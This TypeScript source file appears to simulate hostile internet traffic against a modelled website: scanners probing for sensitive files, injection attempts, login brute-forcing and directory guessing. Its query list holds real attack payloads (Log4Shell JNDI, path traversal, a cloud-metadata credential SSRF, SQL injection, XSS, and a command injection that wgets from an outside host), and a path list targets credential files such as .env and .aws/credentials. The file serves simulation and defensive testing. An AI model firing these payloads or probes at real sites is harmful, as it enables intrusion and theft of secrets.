import type { Luck } from '../luck.ts';
import { type Habit, hour, minute, second } from '../timeline.ts';
import type { Client, Site } from './site.ts';

/** Whoever has a public site is tried by strangers all day, for what others have. */
export function* strangers(site: Site, luck: Luck): Habit {
  for (let index = 0; ; index++) {
    yield luck.about(6 * minute);
    const own = luck.fork(index);
    const client: Client = { address: addressOf(own), agent: own.pick(agents), packed: own.chance(0.3) };
    site.begin(own.pick([looksIn, looksIn, looksIn, tries, tries, injects, postsTo, dictionary])(site, own, client));
  }
}

function addressOf(luck: Luck): string {
  const block = luck.pick(['45.148', '80.94', '92.118', '141.98', '185.220', '193.32', '167.99', '159.203', '43.153']);
  return `${block}.${luck.whole(0, 255)}.${luck.whole(1, 254)}`;
}

const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Go-http-client/1.1',
  'python-requests/2.31.0',
  'curl/7.88.1',
  'Mozilla/5.0 zgrab/0.x',
  '',
];

function* looksIn(site: Site, luck: Luck, client: Client): Habit {
  site.ask(client, '/', luck.chance(0.6) ? { isPlain: true } : {});
  yield luck.about(second);
}

const files = `/.env /.git/config /wp-login.php /wp-admin/setup-config.php /phpinfo.php /.aws/credentials /config.json
  /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /actuator/env /server-status /admin/login /phpmyadmin/index.php
  /.vscode/sftp.json /backup.zip /api/.env /.DS_Store /cgi-bin/luci /boaform/admin/formLogin /HNAP1 /solr/ /owa/
  /telescope/requests /.git/HEAD /info.php /debug/default/view /xmlrpc.php`.split(/\s+/);

/** A handful of files that should not be there. */
function* tries(site: Site, luck: Luck, client: Client): Habit {
  const isPlain = luck.chance(0.4);
  for (const path of luck.some(files, luck.whole(1, 22))) {
    site.ask(client, path, { isPlain });
    yield luck.about(700);
  }
}

const queries = [
  'x=${jndi:ldap://203.0.113.77/a}',
  'file=../../../../etc/passwd',
  'url=http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'id=1%27%20or%20%271%27=%271',
  'id=1%20union%20select%201,2,3',
  'q=%3Cscript%3Ealert(1)%3C/script%3E',
  'cmd=;wget%20http://203.0.113.77/x',
];

/** What some program somewhere would carry out: this one leaves it unread, but for what it searches for. */
function* injects(site: Site, luck: Luck, client: Client): Habit {
  const isPlain = luck.chance(0.3);
  for (const query of luck.some(queries, luck.whole(1, 4))) {
    const path = luck.chance(0.05) ? '/search' : luck.pick(['/', '/', '/index.php', '/download']);
    site.ask(client, path, { query, isPlain, ...(path === '/search' ? { about: query } : {}) });
    yield luck.about(2 * second);
  }
}

/** Guesses of programs that know another site's doors. */
function* postsTo(site: Site, luck: Luck, client: Client): Habit {
  const path = luck.pick(['/xmlrpc.php', '/wp-login.php', '/boaform/admin/formLogin', '/cgi-bin/luci']);
  for (let count = luck.whole(1, 60); count > 0; count--) {
    site.ask(client, path, { method: 'POST' });
    yield luck.about(900);
  }
}

/** Now and then somebody takes the time for hundreds of names. */
function* dictionary(site: Site, luck: Luck, client: Client): Habit {
  if (!luck.chance(0.1)) return;
  yield luck.about(hour);
  for (let count = luck.whole(150, 600); count > 0; count--) {
    site.ask(client, `/${luck.hex(luck.whole(3, 8))}${luck.pick(['', '.php', '.bak', '.zip', '/'])}`);
    yield luck.about(250);
  }
}
